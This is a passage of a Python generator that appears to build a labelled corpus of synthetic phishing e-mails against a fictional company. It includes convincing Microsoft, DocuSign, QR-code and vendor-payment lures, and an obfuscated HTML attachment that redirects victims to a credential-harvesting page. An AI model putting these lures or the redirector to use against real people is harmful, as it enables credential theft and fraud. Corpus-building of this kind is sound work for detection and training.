        html += '<p class="MsoNormal"><span style="font-size:10.0pt;color:#1F3864">' + "<br>\n".join(esc(x) for x in sig_lines) + "</span><o:p></o:p></p>\n"
    html += extra_html
    for q in quote:
        txt += (f"\n________________________________\nFrom: {q['frm']}\nSent: {q['sent']}\nTo: {q['to']}\n"
                + (f"Cc: {q['cc']}\n" if q.get("cc") else "") + f"Subject: {q['subject']}\n\n" + "\n\n".join(q["paras"]) + "\n")
        html += ('<p class="MsoNormal"><o:p>&nbsp;</o:p></p>\n<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0in 0in 0in">\n'
                 f'<p class="MsoNormal"><b>From:</b> {esc(q["frm"])}<br>\n<b>Sent:</b> {q["sent"]}<br>\n<b>To:</b> {esc(q["to"])}<br>\n'
                 + (f'<b>Cc:</b> {esc(q["cc"])}<br>\n' if q.get("cc") else "") + f'<b>Subject:</b> {esc(q["subject"])}<o:p></o:p></p>\n</div>\n'
                 + "".join(f'<p class="MsoNormal">{linkify(p).replace(chr(10), "<br>")}<o:p></o:p></p>\n<p class="MsoNormal"><o:p>&nbsp;</o:p></p>\n'
                           for p in q["paras"]))
    return alt(txt, html + "</div>\n</body>\n</html>\n", b)


def gmail(paras, quote: str = "", quote_paras=(), b: str = "gm") -> Multi:
    txt = "\n\n".join(paras) + "\n"
    html = '<div dir="ltr">' + "<div><br></div>".join(f"<div>{linkify(p).replace(chr(10), '<br>')}</div>" for p in paras) + "</div>"
    if quote:
        txt += f"\n{quote}\n\n" + "\n>\n".join("> " + p.replace("\n", "\n> ") for p in quote_paras) + "\n"
        html += ('<br><div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">' + esc(quote) + '<br></div>'
                 '<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">'
                 + "<br><br>".join(linkify(p).replace("\n", "<br>") for p in quote_paras) + "</blockquote></div>")
    return alt(txt, html + "\n", b)


def card(brand: str, color: str, heading: str, paras, button=None, footer: str = "", b: str = "sg",
         font: str = "'Segoe UI',Tahoma,Arial,sans-serif", pre: str = "", logo: str = "", txt: str | None = None) -> Multi:
    """A table-based notification e-mail (brands, ESPs, kits); the text part is derived from it."""
    rows = "".join(f'<p style="margin:0 0 14px 0;">{p}</p>\n' for p in paras)
    btn = ""
    if button:
        btn = (f'<table cellpadding="0" cellspacing="0" border="0" style="margin:8px 0 18px 0;"><tr><td bgcolor="{color}" style="border-radius:3px;">'
               f'<a href="{button[1]}" target="_blank" style="display:inline-block;padding:11px 26px;font-size:14px;color:#ffffff;'
               f'text-decoration:none;font-weight:600;">{button[0]}</a></td></tr></table>\n')
    head = logo or f'<span style="font-size:20px;font-weight:600;color:#ffffff;">{brand}</span>'
    html = (f'<!DOCTYPE html>\n<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">'
            f'<meta name="viewport" content="width=device-width, initial-scale=1"><title>{esc(heading)}</title></head>\n'
            f'<body style="margin:0;padding:0;background-color:#f3f2f1;">{pre}\n'
            '<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" style="background-color:#f3f2f1;"><tr><td align="center" style="padding:24px 10px;">\n'
            f'<table role="presentation" width="600" cellpadding="0" cellspacing="0" border="0" style="background-color:#ffffff;font-family:{font};">\n'
            f'<tr><td style="background-color:{color};padding:18px 28px;">{head}</td></tr>\n'
            f'<tr><td style="padding:28px 28px 10px 28px;font-size:14px;line-height:21px;color:#323130;">\n'
            f'<h1 style="font-size:20px;font-weight:600;margin:0 0 16px 0;color:#201f1e;">{heading}</h1>\n{rows}{btn}</td></tr>\n'
            f'<tr><td style="padding:14px 28px 22px 28px;font-size:11px;line-height:16px;color:#8a8886;border-top:1px solid #edebe9;">{footer}</td></tr>\n'
            '</table>\n</td></tr></table>\n</body></html>\n')
    return alt(txt if txt is not None else h2t(html), html, b)


MS_FOOT = ('Microsoft respects your privacy. To learn more, please read our <a href="https://go.microsoft.com/fwlink/?LinkId=521839">'
           'Privacy Statement</a>.<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052')


def sp_share(sharer: str, fname: str, url: str, note: str = "", anyone: bool = False, b: str = "ms", icon: str = "pdf") -> Multi:
    """SharePoint / OneDrive 'shared a file with you' notification (genuine layout)."""
    scope = ("This link will work for anyone." if anyone else "This link only works for the direct recipients of this message.")
    html = ('<!DOCTYPE html>\n<html lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" '
            'content="width=device-width"></head>\n<body style="margin:0;padding:0;background-color:#ffffff;">\n'
            '<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td align="center">\n'
            '<table role="presentation" width="440" cellpadding="0" cellspacing="0" border="0" style="font-family:\'Segoe UI\',\'Segoe UI Web (West European)\',Helvetica,Arial,sans-serif;">\n'
            f'<tr><td style="padding:32px 0 0 0;font-size:21px;line-height:28px;color:#242424;font-weight:600;">{esc(sharer)} shared a file with you</td></tr>\n'
            + (f'<tr><td style="padding:20px 0 0 0;font-size:14px;line-height:20px;color:#424242;">{esc(note)}</td></tr>\n' if note else "")
            + f'<tr><td style="padding:24px 0 0 0;"><table role="presentation" cellpadding="0" cellspacing="0" border="0" style="border:1px solid #e0e0e0;border-radius:4px;width:100%;">'
            f'<tr><td style="padding:12px;width:36px;"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240129.001/assets/item-types/48/{icon}.png" width="32" height="32" alt=""></td>'
            f'<td style="padding:12px 12px 12px 0;font-size:14px;color:#242424;font-weight:600;">{esc(fname)}</td></tr></table></td></tr>\n'
            f'<tr><td style="padding:24px 0 0 0;"><a href="{url}" style="background-color:#0f6cbd;color:#ffffff;font-size:14px;font-weight:600;'
            'text-decoration:none;padding:7px 16px;border-radius:4px;display:inline-block;">Open</a></td></tr>\n'
            f'<tr><td style="padding:24px 0 0 0;font-size:12px;color:#616161;">{scope}</td></tr>\n'
            f'<tr><td style="padding:32px 0 24px 0;font-size:11px;line-height:16px;color:#707070;">{MS_FOOT}</td></tr>\n'
            '</table></td></tr></table>\n</body></html>\n')
    txt = (f"{sharer} shared a file with you\n\n" + (f"{note}\n\n" if note else "") + f"{fname}\n\nOpen <{url}>\n\n{scope}\n\n"
           "Microsoft respects your privacy. To learn more, please read our Privacy Statement <https://go.microsoft.com/fwlink/?LinkId=521839>.\n"
           "Microsoft Corporation, One Microsoft Way, Redmond, WA 98052\n")
    return alt(txt, html, b)


def docusign(sender: str, doc: str, url: str, note: str, seed: str, completed: bool = False, b: str = "ds", brand: str = "Docusign") -> Multi:
    """A DocuSign envelope e-mail (used by the genuine ones and the look-alikes)."""
    action, btn = (("All parties have completed", "VIEW COMPLETED DOCUMENT") if completed
                   else (f"{esc(sender)} sent you a document to review and sign.", "REVIEW DOCUMENT"))
    code = hx(seed + "code").upper()
    paras = [f'<span style="font-size:15px;color:#333;">{action}</span>']
    html_note = (f'<p style="margin:0 0 14px 0;"><b>{esc(sender)}</b></p><p style="margin:0 0 14px 0;">{esc(note).replace(chr(10), "<br>")}</p>' if note else "")
    footer = ('<b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, link, or '
              'access code with others.<br><br><b>Alternate Signing Method</b><br>Visit Docusign.com, click \'Access Documents\', and enter '
              f'the security code:<br>{code}<br><br><b>About Docusign</b><br>Sign documents electronically in just minutes. It\'s safe, '
              'secure, and legally binding.<br><br>This message was sent to you by ' + esc(sender) + ' who is using the Docusign Electronic '
              'Signature Service. If you would rather not receive email from this sender you may contact the sender with your request.')
    html = ('<!DOCTYPE html>\n<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>\n'
            '<body style="padding:0;margin:0;background-color:#eaeaea;"><table width="100%" border="0" cellspacing="0" cellpadding="0" '
            'style="background-color:#eaeaea;"><tr><td style="padding:24px 0;" align="center">\n'
            '<table width="640" border="0" cellspacing="0" cellpadding="0" style="background-color:#ffffff;font-family:Helvetica,Arial,\'Sans Serif\';">\n'
            f'<tr><td style="padding:24px 24px 0 24px;font-size:20px;font-weight:bold;color:#1e1e1e;">{brand}</td></tr>\n'
            '<tr><td style="padding:24px;"><table width="100%" style="background-color:#4c00ff;color:#ffffff;" cellpadding="0" cellspacing="0"><tr>'
            f'<td align="center" style="padding:28px 24px;font-size:16px;">{paras[0]}<br><br>'
            f'<a href="{url}" style="background-color:#ffc820;color:#000000;font-size:14px;font-weight:bold;text-decoration:none;'
            f'padding:10px 24px;border-radius:2px;display:inline-block;">{btn}</a></td></tr></table></td></tr>\n'
            f'<tr><td style="padding:0 24px 24px 24px;font-size:15px;color:#333333;line-height:20px;">{html_note}</td></tr>\n'
            f'<tr><td style="padding:24px;background-color:#f4f4f4;font-size:11px;color:#666666;line-height:14px;">{footer}</td></tr>\n'
            '</table></td></tr></table></body></html>\n')
    return alt(h2t(html), html, b)


def qr_pdf(lines, url: str, title: str, y: int = 420) -> bytes:
    """A one-page PDF with text and a QR code image of ``url`` (no link annotation: the phone does the rest)."""
    import segno

    qr = segno.make(url, error="m", micro=False)
    scale, border = 4, 4
    rows = [[0] * border + list(r) + [0] * border for r in qr.matrix]
    width = len(rows[0])
    rows = [[0] * width] * border + rows + [[0] * width] * border
    raw = b"".join(bytes(255 if not c else 0 for c in r for _ in range(scale)) * scale for r in rows)
    size = width * scale
    body = ["BT", "/F1 12 Tf", "16 TL", "56 780 Td"] + [f"({files._pdf_escape(t)}) Tj T*" for t in lines] + ["ET"]
    body += ["q", f"180 0 0 180 56 {y} cm", "/Im1 Do", "Q"]
    objs = files.image_page("\n".join(body).encode("latin-1"), zlib.compress(raw, 9), size, size, "FlateDecode")
    objs.append(f"<< /Title ({files._pdf_escape(title)}) /Producer (Skia/PDF m120) /CreationDate (D:20250114093000Z) >>".encode())
    return files.pdf_file(objs, len(objs))


# ============================================================================= messages
MESSAGES: list[dict] = []


def add(slug: str, kind: str, cat: str, desc: str, **m) -> None:
    MESSAGES.append(dict(slug=slug, kind=kind, cat=cat, desc=desc, **m))


# ---- adversary-in-the-middle kits, QR codes, e-signature lures
add("tycoon-voicemail-wp", "phish", "phishing",
    "Voicemail notification from a fresh look-alike domain; the Listen button opens a compromised WordPress path carrying the "
    "victim's address in the fragment, which serves a Cloudflare Turnstile check and a Tycoon 2FA Microsoft 365 proxy.",
    frm=("Voice Mail System", "voicemail@ringcloud-notify.com"), to=["tkaczmarek"], date="2024-03-12 14:07:31",
    subject="\U0001F50A New Voicemail from +1 (419) 555-0173 \u2014 00:47 sec",
    via=v_esp("mail.ringcloud-notify.com", "193.149.189.47", "", [("ringcloud-notify.com", "mail")],
              "<{h}@ringcloud-notify.com>", ["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"],
              "Received: by mail.ringcloud-notify.com (Postfix, from userid 1001)\n\tid {h}; {t}", ctry="NL"),
    body=card("RingCloud Voice", "#0b5394", "You have received a new voice message",
              ["<b>Caller:</b> +1 (419) 555-0173<br><b>Duration:</b> 00:47<br><b>Received:</b> Tue, March 12, 2024 9:58 AM<br>"
               "<b>Mailbox:</b> tkaczmarek@corlissharbor.com",
               "The message has been securely stored in your voice mailbox. Sign in with your Microsoft 365 account to play it back."],
              ("\u25B6 Listen to Voicemail",
               "https://mauldinroofingco.com/wp-content/uploads/2024/03/vm/index.html#dGthY3p5bWFyZWtAY29ybGlzc2hhcmJvci5jb20="),
              "This is an automated message from your voice messaging service. Please do not reply.", b="php"))
add("evilproxy-indeed-redirect", "phish", "phishing",
    "Password-expiry notice sent from a compromised dental-office Microsoft 365 mailbox (passes SPF/DKIM); the button goes "
    "through Indeed's t.indeed.com open redirect to an EvilProxy reverse-proxy login page.",
    frm=("Microsoft 365 Security", "frontdesk@brightsmiledentalgroup.com"), to=["praman"], date="2024-05-07 12:41:09",
    subject="Password Expiry Notification for praman@corlissharbor.com - expires today",
    via=v_m365("brightsmiledentalgroup.com", onms="brightsmiledental"),
    body=card("Microsoft 365", "#0078d4", "Your password expires today",
              ["The password for <b>praman@corlissharbor.com</b> is set to expire on 05/07/2024 at 11:59 PM.",
               "To keep your current password and avoid losing access to Outlook, Teams and OneDrive, confirm it below. "
               "If no action is taken your account will be signed out of all devices."],
              ("Keep Current Password",
               "https://t.indeed.com/r?target=https%3A%2F%2Fauth-keeppwd.sbs%2Fo365%2F%3Fe%3DcHJhbWFuQGNvcmxpc3NoYXJib3IuY29t%26id%3D8f2c11"),
              "Microsoft Corporation, One Microsoft Way, Redmond, WA 98052", b="ol"))
add("rockstar-docusign-lookalike", "phish", "phishing",
    "DocuSign look-alike from docusign-envelopes.net sent through Amazon SES (DKIM aligned to the look-alike); REVIEW DOCUMENT "
    "leads to a pages.dev Turnstile gate in front of a Rockstar 2FA phishing proxy.",
    frm=("Docusign Signing Service", "dse_na4@docusign-envelopes.net"), to=["jfitzgerald"], date="2024-11-19 16:22:48",
    subject="Complete with Docusign: Corliss_Harbor_2025_Rate_Agreement.pdf",
    via=v_esp("a48-112.smtp-out.amazonses.com", "54.240.48.112", "0100019345a1c2d3-5e6f7a8b-9c0d-4e1f-a2b3-c4d5e6f7a8b9-000000@amazonses.com",
              [("docusign-envelopes.net", "k3xq7w2mzt5vn4r8pbh6yd9cfj1ule0a"), ("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono")],
              "<0100019345a1c2d3-{g}-000000@email.amazonses.com>", ["Feedback-ID: ::1.us-east-1.Yk3xq7w2mzt5vn4r8pbh6y=:AmazonSES",
                                                                  "X-SES-Outgoing: 2024.11.19-54.240.48.112"]),
    body=docusign("Corliss Harbor Contracts Team", "Corliss_Harbor_2025_Rate_Agreement.pdf",
                  "https://secure-doc-review-7ka.pages.dev/?u=amZpdHpnZXJhbGRAY29ybGlzc2hhcmJvci5jb20&env=5f1c93d2",
                  "Please review and sign the 2025 rate agreement at your earliest convenience.\nThank you,\nContracts Administration",
                  "rockstar"))

MAMBA_HTML = ("<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Remittance Advice</title>\n"
              "<style>body{font-family:Segoe UI,Arial;background:#f3f3f3;text-align:center;padding-top:120px;color:#555}</style></head>\n"
              "<body><div id=\"l\">Loading document, please wait&hellip;</div>\n<script>\n"
              "var _0x3b=['aHR0cHM6Ly9','zaGFyZWQtcmVtaXQ','uY2xvdWQtZG9jcy5jb20vbS8'];\nvar em='cHJhbWFuQGNvcmxpc3NoYXJib3IuY29t';\n"
              "var u=atob(_0x3b.join('')+'==');\n"
              "setTimeout(function(){window.location.replace(u+'?'+Math.random().toString(36).slice(2)+'#'+em)},900);\n"
              "</script></body></html>\n")
add("mamba-remittance-html", "phish", "phishing",
    "Remittance advice from a compromised distributor's Microsoft 365 mailbox with an HTML attachment whose script decodes a "
    "base64 URL and forwards to a Mamba 2FA style relay page, passing the victim's address after the '#'.",
    frm=("Accounts Payable | Lakeview Distribution", "ap@lakeviewdist.com"), to=["praman"], date="2024-09-24 18:03:12",
    subject="Remittance Advice - Payment Released 09/24/2024", attach=True,
    via=v_m365("lakeviewdist.com", onms="lakeviewdist"),
    body=mixed("ol", outlook(["Hello,", "Please see attached remittance advice for invoices released for payment today.",
                              "Let us know if you have any questions."],
                             "Accounts Payable\nLakeview Distribution Co.\n(614) 555-0199", b="ol"),
               att("text/html", "Remittance_Advice_Corliss_Harbor_0924.html", MAMBA_HTML.encode())))


def qr_mail(heading: str, paras, img_cid: str, url: str, footer: str, b: str = "php") -> Multi:
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>\n'
            '<body style="font-family:Calibri,Arial,sans-serif;font-size:15px;color:#222;">\n'
            f'<div style="max-width:560px;margin:0 auto;border:1px solid #ddd;padding:24px;">\n<h2 style="color:#0a3d62;">{heading}</h2>\n'
            + "".join(f"<p>{p}</p>\n" for p in paras)
            + f'<p style="text-align:center;"><img src="cid:{img_cid}" width="200" height="200" alt="QR"></p>\n'
            f'<p style="font-size:12px;color:#777;">{footer}</p>\n</div></body></html>\n')
    return Multi("alternative", b, [text(h2t(html)), related(b, text(html, "html"),
                                                             att("image/png", "qr.png", files.qr_png(url), True, img_cid))])


add("qr-mfa-reenroll-body", "phish", "phishing",
    "MFA re-enrolment notice from coriissharbor.com (shown as corIissharbor.com, a homoglyph of the company domain) with a QR "
    "code image in the body pointing through a Bing click-tracking redirect to a credential page, so the link leaves the "
    "protected desktop for a phone.",
    frm=("Corliss Harbor IT Security", "it-security@corIissharbor.com"), to=["gmahoney"], date="2024-10-08 13:15:55",
    subject="ACTION REQUIRED: Microsoft Authenticator re-enrollment by 10/11",
    via=v_esp("mail.coriissharbor.com", "185.234.72.19", "it-security@coriissharbor.com", [("coriissharbor.com", "s1")],
              "<{h}@coriissharbor.com>", ["X-Mailer: Microsoft Outlook 16.0"], ctry="DE"),
    body=qr_mail("Multi-Factor Authentication Re-Enrollment",
                 ["Dear Greg,", "As part of our annual security review, all Microsoft Authenticator registrations must be renewed. "
                  "Accounts not re-enrolled by <b>Friday, October 11</b> will lose access to email and Teams.",
                  "Scan the QR code below with your phone camera to complete re-enrollment (takes less than 2 minutes)."],
                 "mfa-qr-1008", "https://www.bing.com/ck/a?!&&p=3c9a1f02b7e45d6aJmltdHM9MTcyODM0NTYwMA&ptn=3&ver=2&hsh=4"
                 "&fclid=1f2e3d4c&u=a1aHR0cHM6Ly9tZmEtY29yaWlzc2hhcmJvci5jb20vZW5yb2xsLz9lPWdtYWhvbmV5&ntb=1",
                 "Corliss Harbor Information Technology | 2200 Front Street, Toledo, OH 43605"))
add("qr-benefits-pdf", "phish", "phishing",
    "Open-enrolment lure from a benefits look-alike domain via SendGrid with a personalised PDF whose QR code leads to a "
    "workers.dev credential page; the body itself carries no link.",
    frm=("HR Benefits Administration", "benefits@hrbenefits-portal.com"), to=["ktran"], date="2025-10-28 11:48:20",
    subject="2026 Open Enrollment: Your Personalized Benefits Summary (Kevin Tran)", attach=True,
    via=v_esp("o2.ptr4417.hrbenefits-portal.com", "149.72.163.88",
              "bounces+41788213-5c1e-ktran=corlissharbor.com@em4417.hrbenefits-portal.com",
              [("hrbenefits-portal.com", "s1"), ("sendgrid.info", "smtpapi")], "<{r}@geopod-ismtpd-7>",
              ["X-SG-EID: " + b64s("sg-eid-ben", 96), "X-Entity-ID: u001.Kq3Rz8hVxW2mN5pL7tY9cA=="]),
    body=mixed("sg", alt("Hello Kevin,\n\nAttached is your personalized 2026 benefits enrollment summary. Elections must be confirmed "
                         "before November 7, 2025. Scan the QR code in the document with your mobile device to review and confirm.\n\n"
                         "Benefits Administration\n",
                         "<p>Hello Kevin,</p><p>Attached is your personalized <b>2026 benefits enrollment summary</b>. Elections must be "
                         "confirmed before <b>November 7, 2025</b>. Scan the QR code in the document with your mobile device to review "
                         "and confirm.</p><p>Benefits Administration</p>\n", "sg"),
               att("application/pdf", "OE2026_Kevin_Tran.pdf",
                   qr_pdf(["Corliss Harbor Logistics & Engineering - 2026 Open Enrollment", "", "Employee: Kevin Tran",
                           "Enrollment window: October 27 - November 7, 2025", "",
                           "Medical, dental and vision elections default to 'Waive' if not confirmed.",
                           "Scan the code below with your phone camera and sign in with your work account."],
                          "https://oe2026-confirm.hrportal-9x2.workers.dev/?e=a3RyYW5AY29ybGlzc2hhcmJvci5jb20=",
                          "2026 Benefits Enrollment"))))
add("qr-w2-pdf", "phish", "phishing",
    "W-2 availability notice from an attacker's onmicrosoft.com trial tenant named like payroll; the PDF carries only a QR code "
    "to a look-alike W-2 portal harvesting Microsoft 365 credentials.",
    frm=("Corliss Harbor Payroll", "payroll-notify@hrdocs2025.onmicrosoft.com"), to=["edunleavy"], date="2025-01-21 15:30:02",
    subject="Your 2024 Form W-2 is ready to view", attach=True,
    via=v_m365("hrdocs2025.onmicrosoft.com", region="namprd20"),
    body=mixed("ol", outlook(["Hello Eric,", "Your 2024 Form W-2 Wage and Tax Statement has been issued. For security reasons the "
                              "document is protected; scan the QR code on the attached notice with your phone to access it.",
                              "Payroll Department"], b="ol"),
               att("application/pdf", "W2_2024_Notice_EDunleavy.pdf",
                   qr_pdf(["2024 Form W-2 - Secure Access", "", "Employee: Eric Dunleavy",
                           "Your W-2 is available in the secure employee portal.", "Scan to view and download (expires 01/31/2025)."],
                          "https://w2-portal-access.com/adp/?c=ZWR1bmxlYXZ5QGNvcmxpc3NoYXJib3IuY29t", "W-2 Notice"))))
add("docusign-api-invoice-callback", "phish", "phishing",
    "Genuine DocuSign envelope (passes all checks) created by a fraudster account posing as QuickBooks billing: the note "
    "claims a $1,849.99 renewal was charged and tells the reader to call a phone number to cancel (callback scam).",
    frm=("Intuit QuickBooks Billing via Docusign", "dse_NA2@docusign.net"), to=["dwhitfield"], date="2025-06-10 17:12:40",
    subject="Complete with Docusign: QuickBooks_Enterprise_Renewal_Invoice_QB-884172.pdf",
    hdrs=["Reply-To: Intuit QuickBooks Billing <qb.billingdept@proton.me>"],
    via=v_esp("mailna2.docusign.net", "64.207.219.11", "dse_NA2@docusign.net", [("docusign.net", "mail-na2")],
              "<{h}@docusign.net>", ["X-Api-Host: docusign.net"]),
    body=docusign("Intuit QuickBooks Billing", "QuickBooks_Enterprise_Renewal_Invoice_QB-884172.pdf",
                  "https://na2.docusign.net/Signing/EmailStart.aspx?a=9c4e2b1a-7d3f-4e8a-b6c5-1f0e9d8c7b6a&etti=24&acct=3a2b1c0d-9e8f-4a7b-8c6d-5e4f3a2b1c0d&er=7f6e5d4c-3b2a-4190-8f7e-6d5c4b3a2910",
                  "Invoice QB-884172\nQuickBooks Enterprise Platinum - Annual Renewal: $1,849.99 USD\nPayment status: CHARGED to card on file\n\n"
                  "If you did not authorize this renewal, contact our billing department within 24 hours at +1 (877) 341-6652 "
                  "to cancel and receive a full refund.", "dsqb"))
add("adobesign-salary-lookalike", "phish", "phishing",
    "Adobe Acrobat Sign look-alike (adobesign-notify.com via Mailgun) asking the employee to sign a 2025 salary adjustment "
    "letter; the link is an r2.dev page with a Turnstile check in front of a Tycoon 2FA login proxy.",
    frm=("Adobe Acrobat Sign", "adobesign@adobesign-notify.com"), to=["nbrooks"], date="2025-05-20 13:55:17",
    subject='Signature requested on "2025 Salary Adjustment Letter - Nicole Brooks"',
    via=v_esp("m228-12.mailgun.net", "159.135.228.12",
              "bounce+3f2a1c.9e8d7b-nbrooks=corlissharbor.com@mg.adobesign-notify.com", [("adobesign-notify.com", "mailo")],
              "<20250520135517.{h}@mg.adobesign-notify.com>", ["X-Mailgun-Sid: " + b64s("mg-sid", 44) + "=="]),
    body=card("Adobe Acrobat Sign", "#eb1000", "Signature requested",
              ["<b>Human Resources - Corliss Harbor</b> has requested your signature on <b>2025 Salary Adjustment Letter - Nicole Brooks</b>.",
               "Please review the revised compensation terms effective June 1, 2025 and sign before May 23."],
              ("Review and sign", "https://pub-7c2d91e04a3b4f5e8a1b6c9d0e2f4a17.r2.dev/acrobat/sign.html?session=bmJyb29rc0Bjb3JsaXNzaGFyYm9yLmNvbQ"),
              "To ensure that you continue receiving our emails, please add adobesign@adobesign-notify.com to your address book. "
              "&copy; 2025 Adobe. All rights reserved.", b="php", font="adobe-clean,Helvetica,Arial,sans-serif"))
add("dropboxsign-handbook-abuse", "phish", "phishing",
    "Genuine Dropbox Sign request (mail.hellosign.com, passes DKIM/DMARC) from an account named 'Corliss Harbor HR' registered "
    "to a Gmail address, asking for a handbook acknowledgement; the signing document links to a credential page.",
    frm=("Corliss Harbor HR via Dropbox Sign", "noreply@mail.hellosign.com"), to=["mgonzalez"], date="2025-02-11 14:20:33",
    subject="Corliss Harbor HR has requested your signature on Employee Handbook Acknowledgement 2025",
    hdrs=["Reply-To: hr.corlissharbor@gmail.com"],
    via=v_esp("mail-201-17.hellosign.com", "208.93.201.17", "bounce-mg@mail.hellosign.com", [("hellosign.com", "k1")],
              "<{h}@mail.hellosign.com>"),
    body=card("Dropbox Sign", "#0061fe", "Corliss Harbor HR (hr.corlissharbor@gmail.com) has requested your signature",
              ["<b>Employee Handbook Acknowledgement 2025</b>",
               "Message from Corliss Harbor HR: <i>All employees must review the updated 2025 handbook and acknowledge receipt by "
               "February 14. The handbook is available through the secure link inside the document.</i>"],
              ("Review &amp; sign", "https://app.hellosign.com/sign/5f0c2a9e7b1d4c3e8a6f0b2d4c6e8a1f3b5d7e9c"),
              "This request was sent via Dropbox Sign. Dropbox Sign will never ask you for your Dropbox password by email. "
              "Dropbox, Inc., 1800 Owens St, San Francisco, CA 94158", b="java"))
add("open-enrollment-tycoon", "phish", "phishing",
    "Benefits open-enrolment deadline from corlissharbor-hr.com (a look-alike registered days earlier, sent via Postmark with "
    "aligned DKIM) linking to a Tycoon 2FA kit behind a Turnstile page on a fresh domain.",
    frm=("Benefits Team", "benefits@corlissharbor-hr.com"), to=["aweiss"], date="2025-11-04 13:02:44",
    subject="ACTION REQUIRED: 2026 Open Enrollment closes Friday, November 7",
    via=v_esp("sc-ord-mta117.mtasv.net", "50.31.156.117", "pm_bounces@pm-bounces.corlissharbor-hr.com",
              [("corlissharbor-hr.com", "20251101pm"), ("pm.mtasv.net", "pm20230813")], "<{g}@mtasv.net>",
              ["X-PM-Message-Id: " + guid("pm-oe"), "X-PM-RCPT: |bTF8MjY0MTg3fDk4MTc2MjF8YXdlaXNzQGNvcmxpc3NoYXJib3IuY29t|",
               "X-PM-Message-Options: v1;" + b64s("pmopt", 40)]),
    body=card("Corliss Harbor Benefits", "#1d4f91", "2026 Open Enrollment closes Friday",
              ["Hi Anna,", "Our records show you have <b>not yet confirmed</b> your 2026 medical, dental and vision elections. "
               "If no action is taken by <b>Friday, November 7 at 5:00 PM ET</b>, your coverage will default to employee-only "
               "medical and you will not be able to change it until next year.",
               "Review your elections and dependents in the benefits portal using your Corliss Harbor Microsoft login."],
              ("Review &amp; Confirm Elections", "https://enroll.benefitsconnect-2026.com/login?ref=corlissharbor&u=YXdlaXNz"),
              "Corliss Harbor Human Resources &middot; 2200 Front Street, Toledo, OH 43605<br>You are receiving this because you are "
              "an eligible employee.", b="sg"))


# ---- shares from compromised tenants, direct spoofs, attachments that are the phishing page
SP_NOTIFY = dict(helo="NAM02-SN1-obe.outbound.protection.outlook.com", mfrom="no-reply@sharepointonline.com",
                 dkim=[("sharepointonline.com", "selector1")], mid="<{g}@odspnotify>",
                 hdrs=["X-Sharing-Initiator: SharePoint", "X-MS-Exchange-Organization-SharePoint-Notification: 1"])


def sp_via(ip: str):
    return v_esp(ip=ip, **{k: v for k, v in SP_NOTIFY.items()})


add("sharepoint-vendor-tenant-payment", "phish", "phishing",
    "Genuine SharePoint sharing notification (sharepointonline.com, passes) from a compromised environmental-consulting "
    "vendor's OneDrive: an 'anyone' link to a 'payment statement' PDF that itself links to an AiTM login page.",
    frm=("Jim Marlow", "no-reply@sharepointonline.com"), to=["praman", "jfitzgerald"], date="2025-08-13 15:41:06",
    subject='Jim Marlow shared "Pinecrest_Payment_Statement_AUG2025.pdf" with you',
    hdrs=["Reply-To: Jim Marlow <jmarlow@pinecrestenv.com>"], via=sp_via("40.107.236.98"),
    body=sp_share("Jim Marlow", "Pinecrest_Payment_Statement_AUG2025.pdf",
                  "https://pinecrestenv-my.sharepoint.com/:b:/g/personal/jmarlow_pinecrestenv_com/EZx4q2Lm9tRNkW7vB3cY1aQB0hXw5yU8pK2sD6fG9jT4rA?e=4%3aKq9Wj2&at=9",
                  "Hi, please review the attached payment statement and confirm receipt at your earliest convenience. Thank you.",
                  anyone=True))
add("canva-compromised-vendor", "phish", "phishing",
    "Compromised crane-rental vendor mailbox (Microsoft 365, passes SPF/DKIM/DMARC) sends 'updated W-9 and payment documents' "
    "as a Canva design link; the Canva page has a single button to a credential-harvesting proxy.",
    frm=("Megan Holt", "mholt@ardentcrane.com"), to=["praman", "rsutter"], date="2025-09-03 19:26:51",
    subject="Ardent Crane & Rigging - Updated W-9 and Payment Documents",
    via=v_m365("ardentcrane.com"),
    body=outlook(["Good afternoon,", "Please find our updated W-9 and payment documents via the secure link below. Kindly review "
                  "and update your vendor records before the next payment run.",
                  "https://www.canva.com/design/DAGxQ2mYk8E/Lq3vT9pR0sWzN1aB4cD5eF/view?utm_content=DAGxQ2mYk8E&utm_campaign="
                  "designshare&utm_medium=link2&utm_source=uniquelinks&utlId=h7a0c3e2b1",
                  "Thank you,"], "Megan Holt\nAccounts Receivable\nArdent Crane & Rigging, Inc.\n(313) 555-0126"))
add("handbook-direct-spoof", "phish", "phishing",
    "Direct spoof of hr@corlissharbor.com (envelope and header) from a bulletproof host: SPF and DMARC "
    "fail (compauth=fail reason=010) and EOP put it in Junk, where the user reported it; the link is a Google Cloud "
    "Storage page imitating the Microsoft sign-in.",
    frm=("Human Resources", "hr@corlissharbor.com"), to=["jholloway", "ktran", "mgonzalez"], rcpt="ktran",
    date="2024-07-16 11:09:40", subject="Updated Employee Handbook 2024 - Acknowledgement Required",
    scl=5, fcat="SPOOF", spf="fail",
    via=v_esp("srv1.gloriousdeals-shop.com", "91.215.85.142", "", [], "<{h}@corlissharbor.com>",
              ["X-Mailer: Microsoft Office Outlook 16.0"], ctry="RU"),
    body=card("Corliss Harbor Human Resources", "#2e5c8a", "Employee Handbook 2024 - Acknowledgement Required",
              ["Dear Employee,", "The Employee Handbook has been updated with revised PTO, remote work and conduct policies effective "
               "August 1, 2024. All staff must read and acknowledge the updated handbook by <b>July 19, 2024</b>.",
               "Failure to acknowledge may delay your next payroll processing."],
              ("View &amp; Acknowledge Handbook", "https://storage.googleapis.com/hb-ack-2024-chle/index.html#a3RyYW5AY29ybGlzc2hhcmJvci5jb20="),
              "Human Resources Department", b="py", font="Calibri,Arial,sans-serif"))
add("teams-missed-lookalike", "phish", "phishing",
